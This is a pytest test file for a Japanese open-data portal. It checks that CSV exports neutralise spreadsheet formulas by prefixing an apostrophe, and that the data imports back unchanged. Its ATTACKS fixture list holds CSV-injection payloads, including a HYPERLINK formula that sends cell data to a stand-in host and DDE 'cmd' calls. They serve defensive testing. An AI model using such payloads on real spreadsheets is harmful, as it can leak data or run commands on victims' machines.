"""Exports are safe to open in a spreadsheet (issue 16), and still import back unchanged.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets; every CSV the portal writes prefixes it with ``'`` (opendata/cells.py)
and every table it reads takes the apostrophe off again.
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest
from django.conf import settings

from opendata.cells import safe_cell, safe_row, unescape_cell, unescape_row
from opendata.tables import csv_rows

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+81 87-839-2111",  # a phone number written internationally: text, not a sum
    "-",  # "no value"
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_cells_are_written_as_text_and_read_back(value):
    written = safe_cell(value)
    assert written == "'" + value
    assert unescape_cell(written) == value


@pytest.mark.parametrize("value", ["-3", "+1.5", "-1,200", "2024-08-01", "0", "図書館", "", "'quoted", "a=b"])
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value
    assert unescape_cell(value) == value


def test_values_that_are_not_text_are_left_alone():
    assert safe_row([None, 3, -2.5, date(2024, 8, 1), "=1"]) == [None, 3, -2.5, date(2024, 8, 1), "'=1"]


def test_a_csv_written_safely_reads_back_through_the_table_reader():
    from opendata.cells import csv_writer

    stream = io.StringIO()
    csv_writer(stream, lineterminator="\r\n").writerows(
        [["名称", "電話"], *[[value, "087-839-2111"] for value in ATTACKS]]
    )
    raw = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert all(row[0].startswith("'") for row in raw[1:])  # what a spreadsheet opens
    assert csv_rows(stream.getvalue()) == [["名称", "電話"], *[[value, "087-839-2111"] for value in ATTACKS]]
    assert unescape_row(raw[1]) == [ATTACKS[0], "087-839-2111"]


def test_facility_export_neutralises_formulas_and_imports_back(tmp_path):
    from facilities.importers import FacilityRecord, parse_file, write_csv

    record = FacilityRecord(
        kind="facilities",
        source_id="0001",
        name=ATTACKS[0],
        address="香川県高松市番町一丁目8-15",
        latitude=34.34,
        longitude=134.04,
        phone="+81 87-839-2111",
        description="@SUM(1+1)",
        note="-",
    )
    data = write_csv("facilities", [record], "高松市")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, cells = rows[0], rows[1]
    assert cells[header.index("名称")] == "'" + ATTACKS[0]
    assert cells[header.index("電話番号")] == "'+81 87-839-2111"
    assert cells[header.index("緯度")] == "34.34"  # a number stays a number
    path = tmp_path / "facilities.csv"
    path.write_bytes(data)
    result = parse_file("facilities", path)
    assert result.errors == []
    [back] = result.records
    assert (back.name, back.phone, back.description, back.note) == (ATTACKS[0], "+81 87-839-2111", "@SUM(1+1)", "-")


def test_event_export_neutralises_formulas_and_imports_back(tmp_path):
    from services.events.importers import EventRecord, parse_events, write_events

    record = EventRecord(
        row=1,
        title="=cmd|' /C calc'!A0",
        start_date=date(2026, 5, 16),
        end_date=date(2026, 5, 16),
        description="@SUM(A1:A9)",
        contact_phone="+81 87-839-2111",
        venue_name="中央図書館",
        address="香川県高松市昭和町一丁目2-20",
        fee=0,
    )
    stream = io.StringIO()
    write_events([record], stream)
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert rows[1][rows[0].index("イベント名")] == "'=cmd|' /C calc'!A0"
    path = tmp_path / "events.csv"
    path.write_text(stream.getvalue(), encoding="utf-8-sig")
    result = parse_events(path)
    assert result.errors == []
    [back] = result.records
    assert (back.title, back.description, back.contact_phone) == (record.title, "@SUM(A1:A9)", "+81 87-839-2111")


def _csv_writers(path: Path) -> list[int]:
    """Lines of *path* that build a csv writer (``csv.writer``, ``csv.DictWriter``) directly."""
    lines = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        func = getattr(node, "func", None)
        if (
            isinstance(node, ast.Call)
            and isinstance(func, ast.Attribute)
            and func.attr in {"writer", "DictWriter"}
            and getattr(func.value, "id", "") == "csv"
        ):
            lines.append(node.lineno)
    return lines


def test_every_csv_export_goes_through_the_safe_writer():
    """A new export cannot forget: writing CSV with ``csv.writer`` anywhere but opendata/cells.py fails."""
    base = Path(settings.BASE_DIR)
    allowed = {base / "opendata" / "cells.py"}
    problems = []
    for package in ("home", "opendata", "search", "geo", "translation", "facilities", "services"):
        for path in sorted((base / package).rglob("*.py")):
            if path in allowed or "migrations" in path.parts:
                continue
            problems += [f"{path.relative_to(base)}:{line}" for line in _csv_writers(path)]
    assert problems == [], "use opendata.cells.csv_writer / SafeDictWriter"
